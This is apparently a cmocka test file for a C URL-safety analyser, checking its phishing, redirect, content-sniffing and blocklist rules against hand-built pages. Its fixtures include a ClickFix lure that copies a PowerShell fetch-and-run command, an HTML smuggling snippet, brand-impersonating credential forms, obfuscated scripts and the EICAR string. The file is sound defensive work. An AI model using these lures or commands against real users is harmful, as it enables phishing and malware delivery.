/*
 * test_analyze - the rule table against docs/fetcher.md, the verdict
 * thresholds (both sides), sniffing, EICAR, and each rule family on a
 * hand-built fetch result (no network).
 */
#include "fmacros.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "buf.h"
#include "err.h"
#include "strvec.h"
#include "fetcher/analyze.h"
#include "fetcher/fetch.h"

static void test_table_matches_docs(void **state)
{
	size_t n, i, j;
	const struct analyze_rule *r = analyze_rules(&n);
	char row[128], *doc;
	FILE *f = fopen(SAFEURL_SOURCE_DIR "/docs/fetcher.md", "r");
	long len;

	(void)state;
	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	len = ftell(f);
	rewind(f);
	doc = calloc(1, (size_t)len + 1);
	assert_int_equal(fread(doc, 1, (size_t)len, f), (size_t)len);
	fclose(f);
	for (i = 0; i < n; i++) {
		assert_true(r[i].weight >= 0 && r[i].weight <= 100);
		assert_true(strlen(r[i].sentence) > 10);
		for (j = 0; j < i; j++)
			assert_string_not_equal(r[i].code, r[j].code);
		snprintf(row, sizeof(row), "| `%s` | %d |%s|", r[i].code, r[i].weight,
			 r[i].decisive ? " yes " : " ");
		if (!strstr(doc, row))
			fail_msg("docs/fetcher.md lacks the row '%s'", row);
	}
	free(doc);
}

static void test_verdict_thresholds(void **state)
{
	(void)state;
	assert_string_equal(analyze_verdict(0, 0), "safe");
	assert_string_equal(analyze_verdict(29, 0), "safe");
	assert_string_equal(analyze_verdict(30, 0), "suspicious");
	assert_string_equal(analyze_verdict(69, 0), "suspicious");
	assert_string_equal(analyze_verdict(70, 0), "malicious");
	assert_string_equal(analyze_verdict(100, 0), "malicious");
	assert_string_equal(analyze_verdict(0, 1), "malicious");
}

static void test_sniff(void **state)
{
	const char *name;

	(void)state;
	assert_string_equal(analyze_sniff((const unsigned char *)"MZ\x90", 3, &name), "executable");
	assert_string_equal(analyze_sniff((const unsigned char *)"\x7f" "ELF\2", 5, &name), "executable");
	assert_string_equal(analyze_sniff((const unsigned char *)"PK\3\4xx", 6, &name), "archive");
	assert_string_equal(analyze_sniff((const unsigned char *)"%PDF-1.7", 8, &name), "document");
	assert_string_equal(analyze_sniff((const unsigned char *)"#!/bin/sh", 9, &name), "script");
	assert_string_equal(analyze_sniff((const unsigned char *)"\xef\xbb\xbf \n<!DOCTYPE html>", 21, &name), "html");
	assert_string_equal(analyze_sniff((const unsigned char *)"hello", 5, &name), "unknown");
	assert_string_equal(analyze_sniff((const unsigned char *)"", 0, &name), "empty");
	assert_string_equal(analyze_sniff((const unsigned char *)"M", 1, &name), "unknown");
}

static void test_eicar(void **state)
{
	char s[200];
	size_t n;

	(void)state;
	n = (size_t)snprintf(s, sizeof(s), "%s%s", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
			     "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
	assert_true(analyze_is_eicar(s, n));
	assert_false(analyze_is_eicar(s, n - 1));
	memcpy(s + n, "  \r\n", 4);
	assert_true(analyze_is_eicar(s, n + 4));
	s[n] = 'x';
	assert_false(analyze_is_eicar(s, n + 1));
	assert_false(analyze_is_eicar(s + 1, n - 1));
}

static void result(struct fetch_result *r, const char *url, const char *ctype,
		   const char *body)
{
	memset(r, 0, sizeof(*r));
	strvec_init(&r->headers);
	buf_init(&r->body, 0);
	r->final_url = strdup(url);
	r->http_status = 200;
	if (ctype)
		strvec_pushf(&r->headers, "content-type: %s", ctype);
	buf_addstr(&r->body, body, NULL);
}

/* Analyse and return the reason codes joined by commas (static). */
static const char *codes(struct fetch_result *r, const struct analyze_lists *l,
			 struct analysis *a)
{
	static char out[1024];
	size_t i;

	analyze_run(r, r->final_url, l, a);
	out[0] = '\0';
	for (i = 0; i < a->nreasons; i++) {
		strcat(out, a->reasons[i].rule->code);
		strcat(out, ",");
	}
	return out;
}

static void release(struct fetch_result *r, struct analysis *a)
{
	analyze_release(a);
	fetch_result_release(r);
}

static void test_benign_page(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://www.example.com/", "text/html; charset=utf-8",
	       "<html><title>Example</title><a href=/x>x</a></html>");
	assert_string_equal(codes(&r, NULL, &a), "");
	assert_string_equal(a.verdict, "safe");
	assert_int_equal(a.score, 0);
	assert_string_equal(a.registrable, "example.com");
	assert_string_equal(a.html.title, "Example");
	assert_int_equal(strlen(a.sha256), 64);
	release(&r, &a);
}

static void test_url_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "http://paypal.com.login.secure.verify.account.example.co.uk:8080/a@b", NULL, "");
	assert_string_equal(codes(&r, NULL, &a),
			    "URL_MANY_SUBDOMAINS,URL_SUSPICIOUS_CHARS,URL_BRAND_OUTSIDE_DOMAIN,"
			    "URL_UNUSUAL_PORT,HTTP_NO_TLS,");
	assert_string_equal(a.registrable, "example.co.uk");
	assert_string_equal(a.verdict, "suspicious");
	release(&r, &a);

	result(&r, "https://xn--pypal-4ve.com/", NULL, "");
	r.had_userinfo = 1;
	assert_string_equal(codes(&r, NULL, &a), "URL_USERINFO,URL_PUNYCODE,URL_MIXED_SCRIPTS,");
	release(&r, &a);

	result(&r, "https://xn--bcher-kva.de/", NULL, "");
	assert_string_equal(codes(&r, NULL, &a), "URL_PUNYCODE,");
	release(&r, &a);

	result(&r, "https://93.184.216.34/", NULL, "");
	r.numeric_trick = 1;
	assert_string_equal(codes(&r, NULL, &a), "URL_IP_HOST,URL_NUMERIC_TRICK,");
	release(&r, &a);
}

static void test_http_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "http://landing.example.org/", NULL, "");
	r.hops[0].url = strdup("https://short.example.net/a");
	r.hops[1].url = strdup("https://short.example.net/b");
	r.hops[2].url = strdup("https://short.example.net/c");
	r.nhops = 3;
	r.downgrade = 1;
	snprintf(r.tls.version, sizeof(r.tls.version), "TLSv1.1");
	assert_string_equal(codes(&r, NULL, &a),
			    "HTTP_NO_TLS,HTTP_TLS_DOWNGRADE,HTTP_LONG_REDIRECT_CHAIN,"
			    "HTTP_CROSS_SITE_REDIRECT,TLS_OLD_VERSION,");
	assert_int_equal(a.score, 60);
	release(&r, &a);
}

static void test_content_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://dl.example.com/cat.png", "image/png", "MZ\x90");
	strvec_push(&r.headers, "content-disposition: attachment; filename=x.exe");
	assert_string_equal(codes(&r, NULL, &a),
			    "CONTENT_EXECUTABLE,CONTENT_TYPE_MISMATCH,CONTENT_ATTACHMENT,");
	assert_string_equal(a.verdict, "malicious");
	assert_int_equal(a.score, 75);
	release(&r, &a);

	result(&r, "https://dl.example.com/a.zip", "application/zip", "PK\3\4");
	assert_string_equal(codes(&r, NULL, &a), "CONTENT_ARCHIVE,");
	assert_string_equal(a.verdict, "safe");
	release(&r, &a);
}

static void test_html_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://www.example.com/login", "text/html",
	       "<form action=/ok><input type=password></form>"
	       "<form action='https://collect.example.net/'><input type=password></form>"
	       "<iframe src=x width=0></iframe><meta http-equiv=refresh content=0>"
	       "<script src=https://cdn.example.net/x.js></script>"
	       "<script src=/local.js></script>"
	       "<script>location.href='x';eval(atob('eA=='))</script>");
	assert_string_equal(codes(&r, NULL, &a),
			    "HTML_PASSWORD_FIELD,HTML_CROSS_ORIGIN_FORM,HTML_CREDENTIALS_CROSS_ORIGIN,"
			    "HTML_HIDDEN_IFRAME,HTML_META_REFRESH,HTML_JS_REDIRECT,"
			    "HTML_EXTERNAL_SCRIPT,HTML_OBFUSCATED_SCRIPT,");
	assert_int_equal(a.score, 100);
	release(&r, &a);

	/* Same origin, relative and explicit: nothing crosses. */
	result(&r, "https://www.example.com:443/login", "text/html",
	       "<form action='https://www.example.com/p'><input type=password></form>"
	       "<form action='p2'></form><script src=//www.example.com/x.js></script>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_PASSWORD_FIELD,");
	release(&r, &a);

	/* Another port is another origin. */
	result(&r, "https://www.example.com/login", "text/html",
	       "<form action='https://www.example.com:8443/p'></form>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_CROSS_ORIGIN_FORM,");
	release(&r, &a);
}

/* Brand claims against the page's registrable domain, with credentials. */
static void test_brand_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;
	const char *page = "<title>Log in to your PayPal account</title>"
			   "<form action=login.php method=post><input name=email>"
			   "<input type=password name=pw><button>Log In</button></form>";

	(void)state;
	result(&r, "https://account-check.example.net/", "text/html", page);
	assert_string_equal(codes(&r, NULL, &a),
			    "HTML_PASSWORD_FIELD,BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
	assert_string_equal(a.verdict, "malicious");
	assert_int_equal(a.score, 85);
	assert_string_equal(a.reasons[1].detail, "paypal (title) on example.net");
	assert_string_equal(a.reasons[2].detail, "password for paypal");
	release(&r, &a);

	/* The same page on the brand's own domain is a log-in page. */
	result(&r, "https://www.paypal.com/signin", "text/html", page);
	assert_string_equal(codes(&r, NULL, &a), "HTML_PASSWORD_FIELD,");
	release(&r, &a);

	/* Branded without credentials: a mention, weak. */
	result(&r, "https://blog.example.net/", "text/html",
	       "<title>Why we left Netflix</title><p>An essay.</p>");
	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,");
	assert_string_equal(a.verdict, "safe");
	release(&r, &a);

	/* E-mail-first sign-in and card fields count as credentials. */
	result(&r, "https://x.example.net/", "text/html",
	       "<title>Amazon Sign-In</title><form action=/next><label>Email or mobile"
	       "</label><input type=email name=email><input type=submit value=Continue></form>");
	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
	assert_string_equal(a.reasons[1].detail, "e-mail-first log-in for amazon");
	assert_string_equal(a.verdict, "malicious");
	release(&r, &a);

	/* A newsletter box on a branded page is not a log-in. */
	result(&r, "https://x.example.net/", "text/html",
	       "<title>Netflix news</title><form action=/sub><input type=email name=email>"
	       "<button>Subscribe</button></form>");
	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,");
	release(&r, &a);

	result(&r, "https://x.example.net/", "text/html",
	       "<title>eBay checkout</title><form action=/pay><input name=cardnumber>"
	       "<input autocomplete=cc-csc name=c></form>");
	assert_string_equal(codes(&r, NULL, &a),
			    "BRAND_IMPERSONATION,BRAND_CREDENTIALS,HTML_CARD_FIELDS,");
	release(&r, &a);
}

/* A user brand file extends the built-in table. */
static void test_user_brands(void **state)
{
	struct fetch_result r;
	struct analysis a;
	struct analyze_lists l;
	struct err e;
	char path[] = "/tmp/test_analyze_brandsXXXXXX";
	int fd = mkstemp(path);
	const char *row = "acmebank\tAcme Bank\tacmebank.example\n";

	(void)state;
	assert_true(fd >= 0);
	assert_int_equal(write(fd, row, strlen(row)), (ssize_t)strlen(row));
	close(fd);
	analyze_lists_init(&l);
	assert_int_equal(brand_table_load(&l.brands, path, &e), 0);
	unlink(path);
	result(&r, "https://secure.example.net/", "text/html",
	       "<title>Acme Bank online</title><form><input type=password></form>");
	assert_string_equal(codes(&r, &l, &a),
			    "HTML_PASSWORD_FIELD,BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
	release(&r, &a);
	result(&r, "https://online.acmebank.example/", "text/html",
	       "<title>Acme Bank online</title><form><input type=password></form>");
	assert_string_equal(codes(&r, &l, &a), "HTML_PASSWORD_FIELD,");
	release(&r, &a);
	analyze_lists_release(&l);
}

/* Encoded documents are decoded and analysed like the page. */
static void test_decoded_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	/* <title>Microsoft</title><form><input type=password></form>, base64, behind a refresh. */
	result(&r, "https://x.example.net/", "text/html",
	       "<meta http-equiv=refresh content='0;url=data:text/html;base64,"
	       "PHRpdGxlPk1pY3Jvc29mdDwvdGl0bGU+PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg=='>");
	assert_string_equal(codes(&r, NULL, &a),
			    "HTML_PASSWORD_FIELD,HTML_META_REFRESH,BRAND_IMPERSONATION,"
			    "BRAND_CREDENTIALS,HTML_ENCODED_DOCUMENT,");
	assert_string_equal(a.html.title, "Microsoft");
	assert_string_equal(a.verdict, "malicious");
	release(&r, &a);

	/* Two levels: unescape of a page that holds an atob of a form. */
	result(&r, "https://x.example.net/", "text/html",
	       "<script>document.write(unescape('%3Cscript%3Edocument.write(atob(%22"
	       "PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg==%22))%3C/script%3E'))</script>");
	codes(&r, NULL, &a);
	assert_int_equal(a.html.password_fields, 1);
	assert_int_equal(a.decoded, 2);
	release(&r, &a);
}

/* ClickFix, HTML smuggling and script-built credentials. */
static void test_behaviour_rules(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://x.example.net/", "text/html",
	       "<title>Checking your browser</title><p>Verify you are human: press Win + R, "
	       "then Ctrl + V and Enter.</p><button id=b>Verify</button><script>"
	       "document.getElementById('b').onclick=function(){navigator.clipboard."
	       "writeText('powershell -w h -c iwr x | iex')}</script>");
	assert_string_equal(codes(&r, NULL, &a), "JS_CLIPBOARD_COMMAND,JS_CLICKFIX,");
	assert_string_equal(a.verdict, "malicious");
	release(&r, &a);

	/* A copy button for a shell command on a documentation page: no lure. */
	result(&r, "https://docs.example.net/", "text/html",
	       "<pre>npm install thing</pre><script>function copy(t){navigator.clipboard."
	       "writeText(t)}</script>");
	assert_string_equal(codes(&r, NULL, &a), "");
	release(&r, &a);

	result(&r, "https://x.example.net/", "text/html",
	       "<script>var b=new Blob([data],{type:'application/octet-stream'});"
	       "var a=document.createElement('a');a.href=URL.createObjectURL(b);"
	       "a.download='invoice.iso';a.click();</script>");
	assert_string_equal(codes(&r, NULL, &a), "JS_HTML_SMUGGLING,");
	release(&r, &a);

	result(&r, "https://x.example.net/", "text/html",
	       "<h1>Your browser is out of date</h1><p>Install the update to keep browsing.</p>"
	       "<a href='/files/BrowserUpdate.exe?v=2'>Update</a>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_FAKE_UPDATE,");
	assert_string_equal(a.reasons[0].detail, "'browser is out of date', 1 program links");
	release(&r, &a);

	/* A download page without the story, and the story without a program. */
	result(&r, "https://x.example.net/", "text/html",
	       "<h1>Downloads</h1><a href='/tool-1.2.msi'>Windows installer</a>");
	assert_string_equal(codes(&r, NULL, &a), "");
	release(&r, &a);
	result(&r, "https://x.example.net/", "text/html",
	       "<p>Is your browser out of date? Read our guide.</p><a href='/guide.html'>Guide</a>");
	assert_string_equal(codes(&r, NULL, &a), "");
	release(&r, &a);

	result(&r, "https://x.example.net/", "text/html",
	       "<div id=app></div><script>var i=document.createElement('input');"
	       "i.type='password';document.getElementById('app').appendChild(i);</script>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_SCRIPT_PASSWORD,");
	release(&r, &a);
}

/* What used to raise false signals no longer does. */
static void test_fewer_false_signals(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://www.example.com/", "text/html",
	       "<script src='https://cdn.jsdelivr.net/npm/bootstrap@5/dist/js/b.js'></script>"
	       "<script src='https://static.example.org/lib.js' integrity='sha384-x'></script>"
	       "<noscript><iframe src='https://www.googletagmanager.com/ns.html' height=0 width=0"
	       " style='display:none'></iframe></noscript>"
	       "<script>document.getElementById('go').onclick=function(){location.href='/next'};"
	       "if (!ok) { window.location = '/login'; }"
	       "var here = location.href;</script>");
	assert_string_equal(codes(&r, NULL, &a), "");
	assert_int_equal(a.html.tracker_iframes, 1);
	release(&r, &a);

	/* Unconditional: top level, or a timer's function. */
	result(&r, "https://www.example.com/", "text/html",
	       "<script>setTimeout(function(){ window.location.href = 'https://x.example.net/'; }, 10)"
	       "</script>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_JS_REDIRECT,");
	release(&r, &a);

	/* Another site's script without integrity still counts, and says "loads". */
	result(&r, "https://www.example.com/", "text/html",
	       "<script src='https://static.example.org/lib.js'></script>");
	assert_string_equal(codes(&r, NULL, &a), "HTML_EXTERNAL_SCRIPT,");
	assert_string_equal(a.reasons[0].detail, "loads https://static.example.org/lib.js");
	release(&r, &a);
}

/* A body cut at the cap is analysed and says so. */
static void test_truncated(void **state)
{
	struct fetch_result r;
	struct analysis a;

	(void)state;
	result(&r, "https://www.example.com/", "text/html", "<title>Big</title><p>more");
	r.truncated = 1;
	assert_string_equal(codes(&r, NULL, &a), "BODY_TRUNCATED,");
	assert_string_equal(a.verdict, "safe");
	assert_string_equal(a.reasons[0].detail, "first 25 bytes analysed");
	release(&r, &a);
}

static void test_blocklists(void **state)
{
	struct fetch_result r;
	struct analysis a;
	struct analyze_lists l;
	struct err e = ERR_INIT;
	char path[] = "/tmp/safeurl-bl-XXXXXX";
	FILE *f;
	int fd;

	(void)state;
	fd = mkstemp(path);
	assert_true(fd >= 0);
	f = fdopen(fd, "w");
	fprintf(f, "# comment\n\n  Evil.Example  \r\n");
	fclose(f);
	analyze_lists_init(&l);
	assert_int_equal(analyze_lists_load(&l, "domains", path, &e), 0);
	assert_int_equal(l.domains.nr, 1);
	result(&r, "https://a.b.evil.example/", NULL, "x");
	assert_string_equal(codes(&r, &l, &a), "BLOCKLIST_DOMAIN,");
	assert_string_equal(a.verdict, "malicious");
	release(&r, &a);
	result(&r, "https://notevil.example/", NULL, "x");
	assert_string_equal(codes(&r, &l, &a), "");
	release(&r, &a);
	analyze_lists_release(&l);
	unlink(path);
	assert_int_equal(analyze_lists_load(&l, "urls", "/nonexistent/list", &e), -1);
	assert_int_equal(e.kind, ERR_INVALID);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_table_matches_docs),
		cmocka_unit_test(test_verdict_thresholds),
		cmocka_unit_test(test_sniff),
		cmocka_unit_test(test_eicar),
		cmocka_unit_test(test_benign_page),
		cmocka_unit_test(test_url_rules),
		cmocka_unit_test(test_http_rules),
		cmocka_unit_test(test_content_rules),
		cmocka_unit_test(test_html_rules),
		cmocka_unit_test(test_blocklists),
		cmocka_unit_test(test_brand_rules),
		cmocka_unit_test(test_user_brands),
		cmocka_unit_test(test_decoded_rules),
		cmocka_unit_test(test_behaviour_rules),
		cmocka_unit_test(test_fewer_false_signals),
		cmocka_unit_test(test_truncated),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
